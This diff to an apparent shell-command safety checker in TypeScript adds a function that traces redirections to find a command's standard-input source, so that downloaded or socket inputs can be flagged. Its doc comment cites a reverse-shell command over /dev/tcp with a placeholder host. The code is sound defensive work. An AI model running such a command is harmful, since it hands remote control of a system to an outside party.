@@ -20,7 +20,7 @@ import { judgeStatements } from "./sql.js";
  */
 export function checkStdin(runner: string, cmd: Cmd, upstream: Cmd[], ctx: Ctx, run?: (text: string) => void): void {
   const powershell = ctx.shell === "powershell";
-  const from = [...cmd.redirects].reverse().find((r) => r.op === "<")?.target;
+  const from = stdinFile(cmd);
   if (from && wasDownloaded(from, ctx.downloaded, ctx.paths.cwd)) {
     downloadRce(ctx, runner);
     return;
@@ -60,7 +60,26 @@ export function checkStdin(runner: string, cmd: Cmd, upstream: Cmd[], ctx: Ctx, 
 
 /** True when something is fed to the command's standard input: a pipe, a here-string or document, a `<` redirection. */
 export function stdinFed(cmd: Cmd, upstream: readonly Cmd[]): boolean {
-  return cmd.stdinText !== undefined || upstream.length > 0 || cmd.redirects.some((r) => r.op === "<");
+  return cmd.stdinText !== undefined || upstream.length > 0 || stdinFile(cmd) !== undefined;
+}
+
+/**
+ * The file or socket a command's standard input is opened on by its redirections, followed as bash
+ * opens them in order: `< F` and `<> F` (descriptor 0 unless another is written), and `0<&N` or
+ * `0>&N` onto a descriptor opened before (`sh -i 5<>/dev/tcp/h/p 0<&5`).
+ */
+export function stdinFile(cmd: Cmd): Word | undefined {
+  const open = new Map<number, Word>();
+  for (const r of cmd.redirects) {
+    const fd = r.fd ?? (r.op.startsWith("<") ? 0 : 1);
+    if (r.op === "<" || r.op === "<>") open.set(fd, r.target);
+    else if ((r.op === "<&" || r.op === ">&") && !r.target.dynamic && /^\d+$/.test(r.target.text)) {
+      const source = open.get(Number(r.target.text));
+      if (source) open.set(fd, source);
+      else open.delete(fd);
+    } else if (r.op.includes(">") && fd === 0) open.delete(0);
+  }
+  return open.get(0);
 }
 
 /**
